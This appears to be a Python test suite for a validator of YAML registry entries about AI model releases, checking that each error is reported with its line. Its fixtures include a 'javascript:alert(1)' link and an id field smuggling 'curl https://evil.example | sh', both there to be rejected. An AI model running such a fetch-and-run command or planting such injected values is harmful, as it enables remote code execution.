"""Every mistake of a file, each with the line of its key."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from auditor.definitions import Definition
from auditor.registry import Entry
from auditor.store.mistakes import MOST, Mistake, line_of, mistakes

ENTRY = b"""# a comment
id: acme/open-7b
links:
  - role: evaluation_code
    url: https://github.com/acme/open-eval
  - role: demo
    url: javascript:alert(1)
attestations:
  - check: weights_ungated
    outcome: maybe
surprise: yes
"""


def test_every_mistake_is_told_with_the_line_of_its_key_or_of_where_it_is_missing() -> None:
    found = {(one.key, one.line) for one in mistakes(ENTRY, Entry)}
    assert found >= {("links.1.role", 6), ("links.1.url", 7), ("attestations.0.outcome", 10), ("surprise", 11)}
    assert ("attestations.0.because", 9) in found


@pytest.mark.parametrize(
    ("content", "line", "said"),
    [
        (b"id: acme/x\nid: acme/x\n", 2, "stands twice"),
        (b"id: acme/x\nnotes: &a x\n", 2, "anchors"),
        (b"id: acme/x\nnotes: [\n", 3, "expected"),
        (b"id: acme/x\n\xff: y\n", 2, "UTF-8"),
        (b"- id: acme/x\n", 1, "a mapping with the keys id"),
        (b"", 1, "a mapping"),
        (b"id: x'; curl https://evil.example | sh\n", 1, "is not a repository id"),
    ],
)
def test_a_file_that_cannot_be_read_names_its_line(content: bytes, line: int, said: str) -> None:
    (one,) = mistakes(content, Entry)
    assert one.line == line
    assert said in one.says


def test_a_good_file_has_none_and_a_bad_one_has_not_too_many() -> None:
    assert mistakes(b"id: acme/open-7b\n", Entry) == ()
    many = b"id: acme/x\n" + b"".join(b"k%d: 1\n" % number for number in range(100))
    assert len(mistakes(many, Entry)) == MOST


def test_lines_of_keys_by_number_and_by_id() -> None:
    definition = b"id: one\nrequirements:\n  - id: weights\n    title: W\n  - id: data\n    met_when: {check: x}\n"
    assert line_of(definition, "requirements.data.met_when") == 6
    assert line_of(definition, "requirements.1") == 5
    assert line_of(definition, "requirements.gone.title") == 2
    assert line_of(b"\xff", "id") == 0
    assert line_of(b"", "id") == 0
    assert Mistake(line=0, key="", says="x")


@given(
    st.one_of(
        st.binary(max_size=300),
        st.text(alphabet="id: acme/x\n-[]{}&*!|>'\"#%@`,?\\0\ud7ff", max_size=200).map(str.encode),
    )
)
def test_no_bytes_are_too_strange(content: bytes) -> None:
    for shape in (Entry, Definition):
        for one in mistakes(content, shape):
            assert one.says
            assert 0 <= one.line <= content.count(b"\n") + len(content) + 2
    assert line_of(content, "id") >= 0


@pytest.mark.parametrize(
    "content",
    [b'id: "\\ud800"\n', b"id: 1" + b"0" * 5000 + b"\n", b"[" * 5000, b"? [a]\n: 1\n", b"id: .nan\n", b"%TAG ! x\n"],
)
def test_values_that_json_has_no_word_for_are_mistakes_too(content: bytes) -> None:
    assert mistakes(content, Entry)
